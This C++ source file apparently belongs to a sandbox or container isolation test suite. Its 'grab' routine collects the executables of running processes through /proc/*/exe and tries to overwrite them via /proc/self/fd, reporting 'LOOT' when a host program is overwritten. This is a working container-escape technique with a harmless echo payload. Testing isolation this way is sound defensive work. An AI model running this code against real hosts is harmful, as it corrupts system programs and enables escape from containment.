#include "tests/attack/attack.hpp"

#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace attack {
namespace {

struct Held {
    int fds[64]{};
    struct stat known[64]{};
    unsigned count{0};

    [[nodiscard]] bool knows(const struct stat& st) const {
        for (unsigned i = 0; i < count; ++i)
            if (known[i].st_ino == st.st_ino && known[i].st_dev == st.st_dev)
                return true;
        return false;
    }
    bool take(int fd) {
        struct stat st {};
        if (count == 64 || ::fstat(fd, &st) < 0 || knows(st))
            return false;
        fds[count] = fd;
        known[count++] = st;
        return true;
    }
};

int open_program(const char* pid) {
    char path[64];
    std::snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    return ::open(path, O_PATH | O_CLOEXEC);
}

/// Every program that is executed anywhere in sight and not known yet.
void collect(Held& held) {
    DIR* dir = ::opendir("/proc");
    while (const dirent* entry = dir == nullptr ? nullptr : ::readdir(dir)) {
        if (std::strtol(entry->d_name, nullptr, 10) <= 0)
            continue;
        const int fd = open_program(entry->d_name);
        if (fd >= 0 && !held.take(fd))
            ::close(fd);
    }
    if (dir != nullptr)
        ::closedir(dir);
}

/// 0 or the errno of an attempt to write to what `fd` shows. ETXTBSY: somebody executes it still.
int overwrite(int fd) {
    static constexpr char text[] = "#!/bin/sh\necho overwritten\n";
    char path[64];
    std::snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    const int file = ::open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (file < 0)
        return errno;
    const int error = ::write(file, text, sizeof text - 1) < 0 ? errno : 0;
    ::close(file);
    return error;
}

} // namespace

int grab(std::time_t seconds) {
    Held held;
    held.take(open_program("self")); // what is ours already
    const auto end = std::time(nullptr) + seconds;
    std::puts("looking");
    while (std::time(nullptr) < end) {
        collect(held);
        for (unsigned i = 1; i < held.count; ++i)
            if (overwrite(held.fds[i]) == 0) {
                std::puts("LOOT: a program of the host has been overwritten");
                return 0;
            }
    }
    std::printf("held %u\n", held.count - 1);
    for (unsigned i = 1; i < held.count; ++i)
        std::printf("%s\n", std::strerror(overwrite(held.fds[i])));
    return 0;
}

} // namespace attack
